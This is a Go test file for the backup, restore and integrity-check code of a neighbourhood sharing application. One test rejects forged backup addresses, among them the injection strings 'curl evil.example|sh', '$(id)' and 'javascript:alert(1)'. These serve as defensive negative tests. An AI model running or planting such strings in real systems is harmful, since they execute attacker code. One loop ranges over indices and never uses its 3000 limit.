package models_test

import (
	"bytes"
	"context"
	"errors"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"

	"codeberg.org/manypots/manypots/models"
	"codeberg.org/manypots/manypots/models/fault"
	"codeberg.org/manypots/manypots/models/media"
	"codeberg.org/manypots/manypots/models/people"
	"codeberg.org/manypots/manypots/models/sharing"
	"codeberg.org/manypots/manypots/models/store"
	"codeberg.org/manypots/manypots/models/store/storetest"
)

// alder tells a story of the neighbourhood on both databases.
func alder(t *testing.T, story func(n *neighbourhood)) {
	t.Helper()
	storetest.Each(t, func(t *testing.T, s *store.Store) {
		story(newNeighbourhood(t, s, album(t, t.TempDir())))
	})
}

func album(t testing.TB, dir string) *media.Album {
	t.Helper()
	a, err := media.OpenAlbum(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = a.Close() })
	return a
}

func (n *neighbourhood) backup() []byte {
	n.Helper()
	var b bytes.Buffer
	if err := models.Backup(context.Background(), n.Store, n.album, n.now, &b); err != nil {
		n.Fatal(err)
	}
	return b.Bytes()
}

// elsewhere is an empty place on another machine.
func elsewhere(t testing.TB, dialect string) store.Config {
	c := storetest.Config(t, dialect)
	c.Dir = t.TempDir()
	return c
}

// restore reads a backup on another machine and opens what came of it.
func (n *neighbourhood) restore(c store.Config, backup []byte) *neighbourhood {
	n.Helper()
	if _, err := models.Restore(context.Background(), c, n.now, bytes.NewReader(backup)); err != nil {
		n.Fatal(err)
	}
	return n.opens(c)
}

// opens is the same neighbourhood, in another place.
func (n *neighbourhood) opens(c store.Config) *neighbourhood {
	n.Helper()
	s, err := store.Open(context.Background(), c)
	if err != nil {
		n.Fatal(err)
	}
	n.Cleanup(func() { _ = s.Close() })
	there := *n
	there.Store, there.album = s, album(n, c.Dir)
	return &there
}

func (n *neighbourhood) check() []string {
	n.Helper()
	wrong, err := models.Check(context.Background(), n.Store, n.album, n.now, n.now)
	if err != nil {
		n.Fatal(err)
	}
	return wrong
}

// rows is everything in the database that a backup has, but for what a restore itself writes down.
func (n *neighbourhood) rows() string {
	n.Helper()
	var b bytes.Buffer
	n.see(func(v *store.View) error {
		skip := []string{"sessions", "results", "setup_links", "recovery_links", "knocks", "tokens", "invites", "safekeeping"}
		return v.Dump(skip, func(name string, rows []byte) error {
			_, err := b.WriteString(name + "\n" + string(rows))
			return err
		})
	})
	return b.String()
}

func TestBackup_isTheSameNodeOnAnotherMachineWithEitherDatabase(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		backup, want := n.backup(), n.rows()
		for _, dialect := range storetest.Dialects {
			there := n.restore(elsewhere(n, dialect), backup)
			if got := there.rows(); got != want {
				n.Errorf("on %s there is\n%s\nand not\n%s", dialect, got, want)
			}
			if wrong := there.check(); len(wrong) > 0 {
				n.Errorf("after the restore: %v", wrong)
			}
		}
	})
}

func TestBackup_hasNothingThatOpensADoorByItself(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		there := n.restore(elsewhere(n, n.Dialect()), n.backup())
		there.see(func(v *store.View) error {
			for _, table := range []string{"sessions", "results", "setup_links", "recovery_links", "knocks", "tokens", "invites"} {
				if there, err := store.Exists(v.DB().Table(table)); there || err != nil {
					n.Errorf("%s has rows, %v", table, err)
				}
			}
			return nil
		})
		backup := n.backup()
		for _, table := range []string{"sessions", "results", "recovery_links", "tokens", "invites"} {
			if bytes.Contains(backup, []byte("tables/"+table+"/")) {
				n.Errorf("%s are in the backup", table)
			}
		}
	})
}

// Whoever knows for whom backups are sealed can seal one that looks like ours.
func TestRestore_opensNoDoorThatAForgedBackupBrings(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		var forged bytes.Buffer
		a, err := store.NewArchive(&forged, store.Head{Schema: n.schema(), MadeAt: n.now, BaseURL: "https://alder.example"})
		if err != nil {
			n.Fatal(err)
		}
		var token, invite, feed people.Secret
		n.do(func(tx *store.Tx) error {
			if _, err := people.StartSession(tx, n.now, n.ana, ""); err != nil {
				return err
			}
			_, made, err := people.MakeToken(tx, n.now, n.ana, people.NewToken{Name: "p", Scopes: []people.Scope{people.ThingsRead}})
			if err != nil {
				return err
			}
			_, code, err := people.MakeInvite(tx, n.ana, people.NewInvite{Kind: people.ForMember, Uses: 1, Days: 7})
			if err != nil {
				return err
			}
			m, err := people.RenewFeed(tx, n.ana)
			token, invite, feed = made, code, m.Feed
			return err
		})
		n.see(func(v *store.View) error { return v.Dump(nil, a.Add) })
		if err := a.Close(); err != nil {
			n.Fatal(err)
		}
		there := n.restore(elsewhere(n, n.Dialect()), forged.Bytes())
		there.see(func(v *store.View) error {
			sessions, err := store.Exists(v.DB().Table("sessions"))
			if sessions {
				n.Error("somebody is signed in")
			}
			return err
		})
		there.see(func(v *store.View) error {
			if _, _, err := people.FindToken(v, n.now, token); fault.KeyOf(err) != "token.unknown" {
				n.Errorf("the token: %v", err)
			}
			if _, err := people.FindInvite(v, invite); fault.KeyOf(err) != "invite.unknown" {
				n.Errorf("the invite: %v", err)
			}
			if _, err := people.FindByFeed(v, feed); fault.KeyOf(err) != "feed.unknown" {
				n.Errorf("the feed: %v", err)
			}
			ana, err := people.FindMember(v, n.ana.ID)
			if ana.Reachable() {
				n.Error("Ana is still told of promises at an address that nobody has")
			}
			return err
		})
		for _, address := range []string{"", "https://a.example; curl evil.example|sh", "https://a.example/$(id)", "https://a\x1b[2J.example", "javascript:alert(1)"} {
			forged.Reset()
			if _, err := store.NewArchive(&forged, store.Head{Schema: 1, MadeAt: n.now, BaseURL: address}); err != nil {
				n.Fatal(err)
			}
			if _, err := store.ReadArchive(&forged); err == nil || !strings.Contains(err.Error(), "no address") {
				n.Errorf("%q: %v", address, err)
			}
		}
	})
}

func (n *neighbourhood) schema() int64 {
	n.Helper()
	schema, err := n.Schema(context.Background())
	if err != nil {
		n.Fatal(err)
	}
	return schema
}

func TestRestore_refusesWhatIsNotEmpty(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		backup := n.backup()
		c := elsewhere(n, n.Dialect())
		there := n.restore(c, backup)
		before := there.rows()
		_, err := models.Restore(context.Background(), c, n.now, bytes.NewReader(backup))
		if err == nil || !strings.Contains(err.Error(), "already") {
			n.Errorf("the database: %v", err)
		}
		if there.rows() != before {
			n.Error("what was there has changed")
		}
		c = elsewhere(n, n.Dialect())
		kept := filepath.Join(c.Dir, "media", "holiday.jpg")
		if err := errors.Join(os.MkdirAll(filepath.Dir(kept), 0o700), os.WriteFile(kept, []byte("x"), 0o600)); err != nil {
			n.Fatal(err)
		}
		_, err = models.Restore(context.Background(), c, n.now, bytes.NewReader(backup))
		if err == nil || !strings.Contains(err.Error(), "photos") {
			n.Errorf("the photos: %v", err)
		}
		if _, err := os.Stat(kept); err != nil {
			n.Errorf("a photo that was there: %v", err)
		}
	})
}

// What a crash left beside the old database would be played into the restored one: a whole node with pages of the other.
func TestRestore_refusesTheLogOfADatabaseThatWasTakenAway(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		backup := n.backup()
		for _, left := range []string{"-wal", "-shm", "-journal"} {
			c := elsewhere(n, n.Dialect())
			if err := os.WriteFile(filepath.Join(c.Dir, "manypots.sqlite"+left), []byte("x"), 0o600); err != nil {
				n.Fatal(err)
			}
			if _, err := models.Restore(context.Background(), c, n.now, bytes.NewReader(backup)); err == nil || !strings.Contains(err.Error(), left) {
				n.Errorf("beside a %s: %v", left, err)
			}
		}
	})
}

func TestRestore_ofADamagedBackupLeavesNothing(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		backup := n.backup()
		c := elsewhere(n, n.Dialect())
		flipped := bytes.Clone(backup)
		flipped[len(flipped)-8000] ^= 1
		for what, damaged := range map[string][]byte{"cut": backup[:len(backup)-5000], "changed": flipped, "empty": {}} {
			if _, err := models.Restore(context.Background(), c, n.now, bytes.NewReader(damaged)); err == nil {
				n.Fatalf("%s, it was restored", what)
			}
			if left, err := os.ReadDir(c.Dir); len(left) > 0 || err != nil {
				n.Errorf("%s, it left %v %v", what, left, err)
			}
		}
		n.restore(c, backup) // and the next one works
	})
}

// A backup that is made while everybody is busy holds what was there when it began, and nothing by half (security P12).
func TestBackup_underLoadIsOneMoment(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		var done atomic.Int64
		var all sync.WaitGroup
		ctx, stop := context.WithCancel(context.Background())
		defer stop()
		for range 4 {
			all.Go(func() {
				for ctx.Err() == nil {
					err := n.Update(ctx, n.now, func(tx *store.Tx) error {
						o, err := sharing.Write(tx, n.ana, sharing.NewOffer{Title: "A thing among many", Place: "Mill Street 7", Quantity: 1})
						if err != nil {
							return err
						}
						if err := sharing.Publish(tx, n.ana, o.ID, zeroes{}); err != nil {
							return err
						}
						_, err = sharing.Ask(tx, n.ben, o.ID, sharing.Wish{}, newTicket())
						return err
					})
					if err == nil {
						done.Add(1)
					}
				}
			})
		}
		for range 2 {
			before := done.Load()
			backup := n.backup()
			there := n.restore(elsewhere(n, n.Dialect()), backup)
			if wrong := there.check(); len(wrong) > 0 {
				n.Errorf("it is not whole: %v", wrong)
			}
			var offers, claims int64
			there.see(func(v *store.View) error {
				err := v.DB().Model(&sharing.Offer{}).Where("home = ''").Count(&offers).Error
				return errors.Join(err, v.DB().Model(&sharing.Claim{}).Count(&claims).Error)
			})
			// Two things with two claims each were there before.
			if offers-2 < before || claims-4 != offers-2 {
				n.Errorf("%d things and %d claims, after %d were acknowledged", offers, claims, before)
			}
		}
		stop()
		all.Wait()
	})
}

// zeroes are random enough for a draw that nobody looks at.
type zeroes struct{}

func (zeroes) Read(p []byte) (int, error) { clear(p); return len(p), nil }

func TestBackup_failsWhereItCannotBeWritten(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		for limit := range []int{0, 3000} {
			if err := models.Backup(context.Background(), n.Store, n.album, n.now, &full{limit}); !errors.Is(err, io.ErrShortWrite) {
				n.Errorf("got %v", err)
			}
		}
	})
}

// full is a disk with room for so many bytes.
type full struct{ room int }

func (f *full) Write(p []byte) (int, error) {
	if f.room -= len(p); f.room < 0 {
		return 0, io.ErrShortWrite
	}
	return len(p), nil
}

func TestCheck_findsWhatIsWrong(t *testing.T) {
	alder(t, func(n *neighbourhood) {
		if wrong := n.check(); len(wrong) > 0 {
			n.Fatalf("before anything is: %v", wrong)
		}
		var photos []media.PhotoID
		n.see(func(v *store.View) (err error) { photos, err = media.Kept(v); return err })
		n.do(func(tx *store.Tx) error {
			for _, damage := range []string{
				`UPDATE claims SET quantity = 5 WHERE state = 'promised'`,
				`UPDATE claims SET asker = 'nobody' WHERE asker <> '' AND state = 'gathering'`,
				`UPDATE activities SET body = 'other'`,
				`UPDATE offers SET draw_commit = 'another' WHERE state = 'gathering' AND home = ''`,
				`UPDATE offers SET state = 'gone' WHERE state = 'gathering' AND home = ''`,
			} {
				if err := tx.DB().Exec(damage).Error; err != nil {
					return err
				}
			}
			return nil
		})
		if err := n.album.Remove(photos[0]); err != nil {
			n.Fatal(err)
		}
		wrong := strings.Join(n.check(), "\n")
		for _, want := range []string{"More is promised", "Nobody makes claim", "not what was sent", "published with", "still waits", "has lost a file"} {
			if !strings.Contains(wrong, want) {
				n.Errorf("nothing says %q:\n%s", want, wrong)
			}
		}
		n.see(func(v *store.View) error {
			k, err := store.FindSafekeeping(v)
			if k.CheckedAt == nil || k.Well {
				n.Errorf("what is kept of the check: %+v", k)
			}
			return err
		})
	})
}
